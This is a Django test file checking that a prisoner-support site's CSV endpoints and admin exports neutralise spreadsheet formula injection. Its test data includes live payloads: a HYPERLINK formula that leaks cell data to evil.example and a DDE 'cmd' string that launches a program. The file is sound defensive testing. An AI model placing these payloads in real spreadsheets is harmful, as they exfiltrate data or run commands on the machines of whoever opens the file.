"""No file the site writes for a spreadsheet runs a formula: a cell that starts with
= + - @, a tab or a carriage return is written with a leading apostrophe
(core/spreadsheets.py). Every CSV endpoint is found in the URLconf and every admin export
in the admin's registry, so that a new one cannot be forgotten."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from django.apps import apps
from django.conf import settings
from django.contrib import admin
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from core.spreadsheets import FORMULA_PREFIXES, spreadsheet_safe, spreadsheet_value
from prisoners.dates import Precision
from prisoners.models import CaseArticle, CriminalArticle, Stay, Verdict
from tests.factories import make_campaign, make_confirmed, make_letters, make_person, make_place

HYPERLINK = '=HYPERLINK("http://evil.example/"&A1,"x")'
HOSTILE = [HYPERLINK, "=1+2", "@SUM(1+1)", "+1+2", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1"]


@pytest.fixture
def hostile_case(db):
    """A published case whose every text an editor or an import file could fill starts a
    formula, signed for by a signer whose public name does too."""
    person = make_person(
        name_en=HYPERLINK, name_be="+1+2", name_ru="@SUM(1+1)", external_id="=1+2",
        other_spellings="-1+1\n=2+2", charge_en="=CHARGE()", slug="hostile",
    )  # fmt: skip
    source = person.sources.first()
    place = make_place(name_en="-2+3+cmd|' /C calc'!A0", region="=REGION()", slug="hostile")
    stay = Stay.objects.create(person=person, place=place)
    stay.sources.set([source])
    # Dated this month, so that this month's report has it.
    verdict = Verdict.objects.create(
        person=person,
        term_en="=1+2",
        court="@SUM(1+1)",
        judge="+JUDGE()",
        prosecutor="\t=1",
        date=timezone.localdate(),
        date_precision=Precision.DAY,
    )
    verdict.sources.set([source])
    article = CriminalArticle.objects.create(country="BY", article="@342", title="=TITLE()")
    CaseArticle.objects.create(person=person, article=article).sources.set([source])
    make_letters(person, 2)
    campaign = make_campaign(title="=CAMPAIGN()", slug="hostile", prisoners=[person])
    make_confirmed(campaign, name=HYPERLINK, show_name_publicly=True)
    return person


def formula_cells(rows) -> list:
    return [cell for row in rows for cell in row
            if isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)]  # fmt: skip


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def rows_of(response) -> list[list]:
    if response["Content-Type"].startswith("text/csv"):
        return csv_rows(response.content)
    return xlsx_rows(response.content)


def csv_routes(patterns=None, prefix: str = "", namespace: str = ""):
    """(name, route) of every URL of the URLconf that serves a .csv file."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from csv_routes(pattern.url_patterns, prefix + str(pattern.pattern), inner)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv"):
            yield namespace + pattern.name, prefix + str(pattern.pattern)


def test_every_csv_endpoint_is_found():
    assert sorted(name for name, _ in csv_routes()) == [
        "api:campaign-signatures-csv", "api:campaigns-csv", "api:letters-csv",
        "api:prisoners-csv", "api:records-csv", "api:report-csv", "api:statistics-csv",
    ]  # fmt: skip


# The arguments of the CSVs that take some: the hostile case's campaign, this month.
def csv_arguments(route: str) -> dict:
    arguments = {"slug": "hostile", "month": timezone.localdate().replace(day=1)}
    return {
        name: value
        for name, value in arguments.items()
        if f"<{name}" in route or f":{name}>" in route
    }


@pytest.mark.parametrize(("name", "route"), list(csv_routes()))
def test_no_cell_of_an_open_data_csv_starts_a_formula(client, hostile_case, name, route):
    response = client.get(reverse(name, kwargs=csv_arguments(route)))

    assert response.status_code == 200
    rows = csv_rows(response.content)
    assert len(rows) > 1
    assert formula_cells(rows) == []


def admin_exports():
    """(model admin, format index) of every export django-import-export offers."""
    for model_admin in admin.site._registry.values():
        if hasattr(model_admin, "get_export_formats"):
            for index, _ in enumerate(model_admin.get_export_formats()):
                yield model_admin, index


@pytest.mark.parametrize(
    ("model_admin", "format_index"),
    list(admin_exports()),
    ids=lambda value: value.__class__.__name__ if not isinstance(value, int) else str(value),
)
def test_no_cell_of_an_admin_export_starts_a_formula(
    admin_client, hostile_case, model_admin, format_index
):
    opts = model_admin.model._meta
    url = reverse(f"admin:{opts.app_label}_{opts.model_name}_export")
    form = admin_client.get(url).context["form"]
    every_field = {name: "on" for name, field in form.fields.items()
                   if field.widget.input_type == "checkbox"}  # fmt: skip

    response = admin_client.post(url, {"format": format_index, "resource": "0"} | every_field)

    assert response.status_code == 200
    rows = rows_of(response)
    assert len(rows) > 1
    assert formula_cells(rows) == []


def export_actions():
    for model_admin in admin.site._registry.values():
        for action in model_admin.actions or []:
            if isinstance(action, str) and "export" in action:
                yield model_admin, action


@pytest.mark.parametrize(("model_admin", "action"), list(export_actions()),
                         ids=lambda value: str(value))  # fmt: skip
def test_no_cell_of_an_admin_export_action_starts_a_formula(
    admin_client, hostile_case, model_admin, action
):
    opts = model_admin.model._meta
    objects = model_admin.model._default_manager.all()
    assert objects.exists()

    response = admin_client.post(
        reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist"),
        {"action": action, "_selected_action": [str(obj.pk) for obj in objects]},
    )

    rows = rows_of(response)
    assert len(rows) > 1
    assert formula_cells(rows) == []


def test_every_csv_the_site_writes_goes_through_the_one_helper():
    """csv.writer is called in core/spreadsheets.py alone, in every app of the project: a
    new CSV cannot skip it."""
    root = Path(settings.BASE_DIR)
    ours = [Path(app.path) for app in apps.get_app_configs()]
    folders = {path for path in ours if path.parent == root} | {root / "config"}
    assert root / "prisoners" in folders
    writers = [
        str(path.relative_to(root))
        for folder in sorted(folders)
        for path in folder.rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["core/spreadsheets.py"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_is_written_as_text(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "-12.5", "+3", "Ales Bialiatski", "", "342-1",
                                   "2021-07-14", "it's = fine"])  # fmt: skip
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-5, 2.5, None, True])
def test_a_cell_that_is_not_text_is_written_as_it_is(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [*HOSTILE, "-5", "Ales", "'quoted", "'=x", "''=x"])
def test_reading_a_written_cell_gives_back_the_value(value):
    assert spreadsheet_value(spreadsheet_safe(value)) == value
